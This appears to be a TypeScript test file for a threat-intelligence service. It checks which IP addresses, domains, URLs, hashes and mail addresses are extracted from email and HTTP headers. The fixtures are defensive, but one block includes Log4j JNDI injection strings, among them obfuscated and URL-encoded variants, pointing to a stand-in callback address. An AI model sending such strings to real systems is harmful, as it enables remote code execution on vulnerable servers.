import type { Artifact } from "../../../src/core/artifact.js";
import { candidatesOf } from "../../../services/lookup/candidates.js";

function asked(type: string, value: Artifact["value"]): readonly string[] {
  return candidatesOf({ type, value }).map((candidate) => candidate.value);
}
const header = (name: string, value: string): readonly string[] => asked("email.header", { name, value });

describe("an IPv6 address in a header that names a host", () => {
  it.each(["Host", ":authority", "X-Forwarded-Host", "X-Original-Host"])(
    "%s, with and without a port",
    (name) => {
      for (const value of [
        "[2a02:4780::5:6]",
        "2a02:4780::5:6",
        "[2a02:4780::5:6]:443",
        "2a02:4780:0:0:0:0:5:6:443",
      ])
        expect(asked("net.http.request.header", { name, value })).toEqual(["2a02:4780::5:6"]);
    },
  );
});

describe("a version of four numbers is no address", () => {
  it.each([
    ["Received", "from a.example by b.example (Microsoft SMTP Server) id 15.1.225.42 via Mailbox"],
    ["Received", "by b.example (Exim 4.94.2.1) with esmtp"],
    ["Received", "by b.example with Microsoft SMTPSVC(6.0.3790.211)"],
    ["Server", "Apache 2.4.1.1"],
    ["X-Mailer", "Foxmail 7.2.9.156"],
    ["Sec-CH-UA", '"Chromium";v="110.0.54.81"'],
    ["X-Virus-Scanned", "ClamAV version 0.100.2.1"],
    ["User-Agent", "Mozilla/5.0 Chrome/120.0.0.1"],
  ])("%s: %s", (name, value) => {
    expect(header(name, value)).toEqual([]);
  });

  it.each([
    ["Received", "from mx.example ([203.0.113.7]) by us id 15.1.225.42", "203.0.113.7"],
    ["Received-SPF", "fail (x) client-ip=203.0.113.7; envelope-from=<a@b.example>", "203.0.113.7"],
    ["Received-SPF", "fail client-ip=::ffff:203.0.113.7;", "203.0.113.7"],
    ["X-Originating-IP", "[203.0.113.7]", "203.0.113.7"],
    ["Subject", "build 203.0.113.7", "203.0.113.7"],
  ])("but %s: %s holds one", (name, value, address) => {
    expect(header(name, value)).toContain(address);
  });
});

describe("a header as plain text counts as that header", () => {
  it.each([
    "Cookie: sid=203.0.113.7",
    "cookie : http://evil.example/x",
    "Authorization: Basic bad@evil.example",
    "X-Api-Key: http://evil.example/",
  ])("%s: nothing is asked", (text) => {
    expect(asked("net.http.request.header", text)).toEqual([]);
  });

  it("of a User-Agent its links", () => {
    expect(asked("net.http.request.header", "User-Agent: bot/1.2.3.4 http://evil.example/bot")).toEqual([
      "http://evil.example/bot",
    ]);
  });

  it("of several lines each counts as its own, also behind a value", () => {
    const text = "Host: evil.example\r\nCookie: id=203.0.113.7\r\nReferer: http://bad.example/x";
    expect(asked("net.http.request.header", text)).toEqual(["evil.example", "http://bad.example/x"]);
    const value = "evil.example\nCookie: id=203.0.113.7";
    expect(asked("net.http.request.header", { name: "Host", value })).toEqual(["evil.example"]);
  });
});

describe("addresses as bounces and relays write them", () => {
  const long = `bounce+${"a".repeat(70)}=jo=other.example@evil.example`;
  it.each([
    long,
    "prvs=0123abc=bad@evil.example",
    "SRS0=hhh=tt=other.example=bad@evil.example",
    "/o=org/cn=bad@evil.example",
  ])("%s is asked about as it is written", (mailbox) => {
    expect(asked("email.header.sender_address", mailbox)).toContain(mailbox.toLowerCase());
    expect(header("Return-Path", `<${mailbox}>`)).toContain(mailbox.toLowerCase());
    expect(asked("string", mailbox)).toContain(mailbox.toLowerCase());
  });
});

describe("who else gets a mail is not asked about", () => {
  it.each(["?cc=jo@other.example", "?subject=a b&bcc=jo@other.example", "?cc=<jo@other.example>"])(
    "mailto:…%s",
    (query) => {
      const link = `mailto:bad@evil.example${query}`;
      for (const found of [
        asked("email.header.to", [link]),
        asked("string", link),
        asked("net.uri", link),
        header("Reply-To", link),
        header("List-Unsubscribe", `<${link}>`),
      ])
        expect(found).toEqual(["bad@evil.example"]);
    },
  );

  it("http://mailto:… is an address, not a host", () => {
    expect(asked("net.uri", "http://mailto:bad@evil.example")).toEqual(["bad@evil.example"]);
  });
});

describe("where a look-up of Log4j is sent", () => {
  it.each([
    "${jndi:ldap://203.0.113.7:1389/a}",
    "${${lower:j}ndi:ldap://203.0.113.7:1389/a}",
    "${${::-j}${::-n}di:rmi://203.0.113.7:1389/a}",
    "%24%7Bjndi:ldap://203.0.113.7:1389/a%7D",
  ])("%s asks about its address", (text) => {
    for (const found of [
      asked("string", text),
      asked("net.uri", text),
      header("User-Agent", text),
      header("X-Api-Version", text),
    ])
      expect(found).toContain("203.0.113.7");
  });
});

describe("parts of what is written together", () => {
  it.each<readonly [type: string, value: string, expected: readonly string[]]>([
    ["net.name", "evil.example:8443", ["evil.example:8443", "evil.example"]],
    ["string", "203.0.113.7:8443", ["203.0.113.7:8443", "203.0.113.7"]],
    ["net.ip", "evil.example:8443", ["evil.example:8443", "evil.example"]],
    ["net.name", "[2001:db8::7]:443", ["2001:db8::7"]],
    ["net.ip", "203.0.113.7 443", ["203.0.113.7"]],
    ["string", "evil.example|203.0.113.7", ["evil.example", "203.0.113.7"]],
    ["net.ip", "203.0.113.7|443", ["203.0.113.7"]],
    [
      "file.name",
      "evil.exe|0123456789abcdef0123456789abcdef",
      ["evil.exe", "0123456789abcdef0123456789abcdef"],
    ],
    ["net.name", "*.evil.example", ["evil.example"]],
    ["net.name", ".evil.example", ["evil.example"]],
    [
      "hash.md5",
      "MD5=0123456789abcdef0123456789abcdef,SHA1=0123456789abcdef0123456789abcdef01234567",
      ["0123456789abcdef0123456789abcdef", "0123456789abcdef0123456789abcdef01234567"],
    ],
    ["net.name", "xn--zzzz.example", ["xn--zzzz.example"]],
    ["net.uri", "http://evil-.example/x", ["http://evil-.example/x"]],
    ["net.uri", "http://xn--zzzz.example/x", ["http://xn--zzzz.example/x"]],
  ])("%s %s", (type, value, expected) => {
    expect(asked(type, value)).toEqual(expected);
  });
});

describe("a hash of nothing, and a text that is no indicator", () => {
  it.each([
    "d41d8cd98f00b204e9800998ecf8427e",
    "DA39A3EE5E6B4B0D3255BFEF95601890AFD80709",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
  ])("an empty file's hash %s is asked about nowhere", (hash) => {
    for (const type of ["hash.md5", "hash.sha1", "hash.sha256", "string"])
      expect(asked(type, hash)).toEqual([]);
    expect(asked("file.name", `empty.txt|${hash}`)).toEqual(["empty.txt"]);
  });

  it("a string without any syntax is asked about when it is wanted", () => {
    const artifact = { type: "string", value: " Some Campaign " };
    expect(candidatesOf(artifact)).toEqual([]);
    expect(candidatesOf(artifact, undefined, true)).toEqual([{ kind: "MALWARE", value: "Some Campaign" }]);
    expect(candidatesOf({ ...artifact, type: "net.mac" }, undefined, true)).toEqual([]);
  });
});
